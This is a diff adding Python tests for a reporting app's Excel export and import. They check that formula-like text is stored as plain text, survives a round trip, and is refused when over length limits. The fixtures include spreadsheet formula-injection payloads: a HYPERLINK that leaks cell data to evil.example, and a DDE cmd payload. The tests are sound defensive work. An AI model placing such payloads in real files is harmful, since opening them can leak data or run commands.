@@ -541,3 +541,93 @@ def test_another_department_cannot_import(report_a, dept_b_user):
     with pytest.raises(PermissionDenied):
         spreadsheet.import_workbook(report=report_a, file=spreadsheet.build_workbook(report_a), by=dept_b_user)
     assert fresh(report_a).version == 1
+
+
+# ------------------------------------------------------------------------ hostile text and the round trip
+
+HOSTILE = {
+    "work_done": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
+    "problems": "+1+1",
+    "next_steps": "- 下季度继续推进\n- 完成验收",
+}
+HOSTILE_VALUE = {"note": "=cmd|' /C calc'!A0", "data_source": "=1+2", "change_explanation": "@SUM(1)"}
+
+
+def _formulas(content: bytes) -> list[str]:
+    """Every <f> (formula) element of every sheet of the file, read from the XML, not through openpyxl."""
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        return [
+            formula
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/")
+            for formula in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
+        ]
+
+
+def _save_hostile(report, by):
+    update, coverage = task_update(report, "6.2"), indicator_value(report, "forest-coverage")
+    services.save_draft(
+        report=report,
+        by=by,
+        version=fresh(report).version,
+        task_data={update.task_id: HOSTILE},
+        indicator_data={coverage.indicator_id: HOSTILE_VALUE},
+    )
+    return update, coverage
+
+
+def test_text_that_starts_like_a_formula_is_written_as_text_never_as_a_formula(report_a, dept_a_user, client):
+    update, coverage = _save_hostile(report_a, dept_a_user)
+    client.force_login(dept_a_user)
+
+    content = b"".join(client.get(f"/reports/{report_a.pk}/workbook.xlsx").streaming_content)
+
+    assert _formulas(content) == []
+    workbook = load_workbook(BytesIO(content))
+    tasks, indicators = workbook[TASKS], workbook[INDICATORS]
+    cell = tasks[f"{letter_of(tasks, '本季度工作进展')}{row_of(tasks, '6.2')}"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE["work_done"], "s", True)
+    assert cell.protection.locked is False  # still an input cell
+    note = indicators[f"{letter_of(indicators, '备注')}{row_of(indicators, 'forest-coverage')}"]
+    assert (note.value, note.data_type, note.quotePrefix) == (HOSTILE_VALUE["note"], "s", True)
+
+
+def test_hostile_text_survives_download_and_upload_unchanged(report_a, dept_a_user):
+    update, coverage = _save_hostile(report_a, dept_a_user)
+    version = fresh(report_a).version
+
+    outcome = spreadsheet.import_workbook(report=report_a, file=spreadsheet.build_workbook(report_a), by=dept_a_user)
+
+    assert outcome.ok and outcome.event is None and outcome.changed == 0
+    assert fresh(report_a).version == version
+    update.refresh_from_db()
+    coverage.refresh_from_db()
+    assert {f: getattr(update, f) for f in HOSTILE} == HOSTILE
+    assert {f: getattr(coverage, f) for f in HOSTILE_VALUE} == HOSTILE_VALUE
+
+
+def test_text_the_workbook_cannot_carry_is_refused_at_download_in_chinese(report_a, dept_a_user, client):
+    """A text stored before the limits existed (40,000 characters) would be cut to Excel's 32,767."""
+    update = task_update(report_a, "6.2")
+    TaskUpdate.objects.filter(pk=update.pk).update(next_steps="长" * 40_000)
+    client.force_login(dept_a_user)
+
+    response = client.get(f"/reports/{report_a.pk}/workbook.xlsx", HTTP_ACCEPT_LANGUAGE="zh-hans", follow=True)
+
+    assert response.redirect_chain[-1][0] == f"/reports/{report_a.pk}/"
+    message = next(iter(response.context["messages"])).message
+    assert "下季度工作计划" in message and "20000" in message and "6.2" in message
+
+
+def test_an_uploaded_text_over_the_limit_is_refused_and_nothing_is_saved(report_a, dept_a_user):
+    workbook = download(report_a)
+    row, letter = put(workbook, TASKS, "6.2", "下季度工作计划", "长" * 40_000)
+    put(workbook, TASKS, "6.1", "本季度工作进展", "这一格是好的。")
+    version = fresh(report_a).version
+
+    outcome = spreadsheet.import_workbook(report=report_a, file=as_bytes(workbook), by=dept_a_user)
+
+    assert where(outcome.errors) == {(TASKS, row, letter, "下季度工作计划")}
+    assert "20000" in str(outcome.errors[0])
+    assert fresh(report_a).version == version
+    assert not TaskUpdate.objects.filter(report=report_a, work_done="这一格是好的。").exists()
